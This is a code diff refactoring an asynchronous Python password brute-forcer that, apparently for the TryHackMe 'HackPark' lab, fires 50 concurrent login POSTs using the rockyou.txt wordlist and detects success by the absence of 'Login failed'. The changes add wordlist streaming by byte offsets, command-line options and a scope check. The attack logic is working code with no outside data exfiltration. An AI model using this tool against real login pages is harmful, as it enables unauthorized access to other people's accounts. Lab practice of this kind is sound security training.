@@ -219,10 +219,18 @@ works but still slow
 # ============================================================================================================
 # VERSION 3
 # ============================================================================================================
-import aiohttp
+import argparse
 import asyncio
+import itertools
 import time
 import os
+import sys
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+from util.http_session import create_session
+from util.scope import add_scope_arguments, scope_from_args
+from util.wordlist import iter_wordlist
+from util.wordlist_index import add_slice_arguments, slice_from_args
 
 """
 v1.0.1
@@ -281,30 +289,22 @@ async def post(session, index, FUZZ, filter, semaphore):
             print(f"[-] Request failed: {e}")
             return None
 
-def read_file_to_array(file_path):
-    expanded_path = os.path.expanduser(file_path)
-    try:
-        with open(expanded_path, 'r', encoding='latin-1') as file:
-            lines = file.readlines()
-        return [line.strip() for line in lines]
-    except Exception as e:
-        print(f"Error reading file: {e}")
-        return []
-
-async def main():
-    file_path = "~/wordlists/rockyou.txt"
-    password_list = read_file_to_array(file_path)
+async def main(file_path="~/wordlists/rockyou.txt", start_offset=0, end_offset=None):
+    password_list = iter_wordlist(file_path, start_offset=start_offset, end_offset=end_offset)
     filter_string = "Login failed"
     concurrent_limit = 50
     semaphore = asyncio.Semaphore(concurrent_limit)
 
     tasks = []
-    async with aiohttp.ClientSession() as session:
-        for i in range(0, len(password_list), concurrent_limit):
-            batch = password_list[i:i + concurrent_limit]
-            for j, password in enumerate(batch):
+    session, connection_stats = create_session(concurrent_limit)
+    async with session:
+        while True:
+            batch = list(itertools.islice(password_list, concurrent_limit))
+            if not batch:
+                break
+            for offset, password in batch:
                 task = asyncio.ensure_future(post(
-                    session=session, index=i + j, FUZZ=password, filter=filter_string, semaphore=semaphore
+                    session=session, index=offset, FUZZ=password, filter=filter_string, semaphore=semaphore
                 ))
                 tasks.append(task)
 
@@ -319,12 +319,24 @@ async def main():
             #             print("Client error:", response)
             tasks = []  # Clear tasks for the next batch
 
+    print(f"[+] {connection_stats.summary()}")
+
 if __name__ == "__main__":
     # https://tryhackme.com/r/room/hackpark
     # this is the room we tried this
     url = "http://10.10.151.23/Account/login.aspx?ReturnURL=%2fadmin%2f"
-    
+
+    parser = argparse.ArgumentParser(description="HTTP form bruteforce")
+    parser.add_argument("--wordlist", default="~/wordlists/rockyou.txt", help="Password wordlist")
+    parser.add_argument("--start-offset", type=int, default=0, help="Byte offset in the wordlist to start from")
+    add_slice_arguments(parser)
+    add_scope_arguments(parser)
+    args = parser.parse_args()
+    if not scope_from_args(args, default=[url]).allows(url):
+        parser.error(f"{url} is out of scope")
+    slice_start, end_offset = slice_from_args(args, args.wordlist)
+
     start_time = time.time()
     print("[+] Starting requests")
-    asyncio.run(main())
+    asyncio.run(main(args.wordlist, max(args.start_offset, slice_start), end_offset))
     print("--- %s seconds ---" % (time.time() - start_time))